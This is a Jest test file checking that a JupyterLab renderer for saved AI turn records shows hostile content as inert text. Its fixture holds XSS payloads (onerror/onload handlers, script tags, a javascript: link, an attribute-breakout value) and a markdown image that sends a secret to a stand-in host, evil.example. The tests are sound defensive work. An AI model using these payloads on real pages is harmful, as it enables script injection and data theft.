/**
 * @jest-environment jsdom
 *
 * A saved turn record is a file anyone can write: the renderer must put nothing
 * live on the page, whatever the record holds. JupyterLab's rendering helpers are
 * replaced by stand-ins that behave as the real ones do where it matters: the
 * markdown parser passes raw HTML through and makes images and links of markdown
 * syntax, and the sanitizer, like JupyterLab's, removes scripts and handlers but
 * keeps remote images. A lumino widget is a node with classes here.
 */
jest.mock('@lumino/widgets', () => ({
  Widget: class {
    node = document.createElement('div');
    isAttached = false;
    addClass(name: string): void {
      this.node.classList.add(name);
    }
  }
}));
jest.mock('@jupyterlab/rendermime', () => {
  const renderHTML = async (options: any) => {
    options.host.innerHTML = options.trusted
      ? options.source
      : options.sanitizer.sanitize(options.source);
  };
  return {
    removeMath: (text: string) => ({ text, math: [] }),
    replaceMath: (text: string) => text,
    renderHTML,
    renderMarkdown: async (options: any) => {
      const html = await options.markdownParser.render(options.source);
      await renderHTML({ ...options, source: html });
    }
  };
});

import { TURN_MIME, TurnRenderer } from '../turn';
import { PAYLOADS, problems } from './pagechecks';

const markdownParser = {
  render: async (source: string) =>
    source
      .replace(/!\[([^\]]*)\]\(([^)\s]+)\)/g, '<img alt="$1" src="$2">')
      .replace(/\[([^\]]*)\]\(([^)\s]+)\)/g, '<a href="$2">$1</a>')
      .replace(/\*\*([^*]+)\*\*/g, '<strong>$1</strong>')
};
const sanitizer = {
  sanitize: (html: string) =>
    html
      .replace(/<script[\s\S]*?<\/script>/gi, '')
      .replace(/\son\w+=("[^"]*"|'[^']*'|[^\s>]+)/gi, '')
};

const HOSTILE = PAYLOADS.join('\n\n');

function hostileRecord(): Record<string, unknown> {
  return {
    version: 2,
    turn: 3,
    model: '<img src=x onerror=alert(1)>',
    prompt: HOSTILE,
    answer:
      'Revenue **grew**. ![chart](https://evil.example/steal?q=SECRET) ' +
      '[ok](https://example.com) [bad](javascript:alert(1))\n\n' +
      'Draw it in an <svg onload=alert(1)> element, then save it.\n\n' +
      HOSTILE,
    tool_calls: [
      {
        id: 'toolu_1',
        name: '<svg onload=alert(1)>',
        input: { q: HOSTILE },
        result: [{ type: 'text', text: HOSTILE }],
        is_error: true
      }
    ],
    recall: {
      mode: 'prefetch',
      decisions: [
        {
          file: '<img src=x onerror=alert(1)>.md',
          decision: 'injected" onclick="alert(1)',
          reason: HOSTILE
        }
      ]
    },
    context: {
      window: 200000,
      used: 1000,
      categories: [{ name: '<img src=x onerror=alert(1)>', tokens: 1000 }]
    },
    memories_written: [
      { file: '<img src=x onerror=alert(1)>.md', by: HOSTILE }
    ],
    events: [{ kind: 'warning jp-Dialog', text: HOSTILE }],
    status: '<script>alert(1)</script>'
  };
}

async function render(record: Record<string, unknown>): Promise<TurnRenderer> {
  const renderer = new TurnRenderer({
    mimeType: TURN_MIME,
    sanitizer,
    resolver: null,
    linkHandler: null,
    latexTypesetter: null,
    markdownParser
  } as any);
  await renderer.renderModel({
    data: { [TURN_MIME]: record },
    metadata: {},
    trusted: false,
    setData: () => undefined
  } as any);
  return renderer;
}

describe('TurnRenderer', () => {
  it('puts nothing live on the page from a hostile record', async () => {
    const renderer = await render(hostileRecord());
    expect(problems(renderer.node.innerHTML)).toEqual([]);
    const answer = renderer.node.querySelector('.jp-MemoryTurn-answer')!;
    expect(answer.querySelector('strong')?.textContent).toBe('grew');
    expect(answer.textContent).toContain(
      'chart (image not loaded: https://evil.example/steal?q=SECRET)'
    );
    const links = Array.from(answer.querySelectorAll('a')).map(a =>
      a.getAttribute('href')
    );
    expect(links).toEqual(['https://example.com']);
    expect(answer.textContent).toContain('bad (link removed)');
    // Raw HTML in prose loses its tag, not the text after it (only an unclosed
    // <script> or <style> swallows the rest, as in any browser).
    expect(answer.textContent).toContain(
      'Draw it in an  element, then save it.'
    );
    // Everything else is text: the tool name is there, as words.
    expect(renderer.node.textContent).toContain('<svg onload=alert(1)>');
  });

  it('keeps record values to one class token each', async () => {
    const renderer = await render(hostileRecord());
    const row = renderer.node.querySelector('.jp-MemoryTurn-decision')!;
    expect(row.className).toBe(
      'jp-MemoryTurn-decision jp-mod-injectedonclickalert1'
    );
    const event = renderer.node.querySelector('.jp-MemoryTurn-event')!;
    expect(event.classList.contains('jp-Dialog')).toBe(false);
  });
});
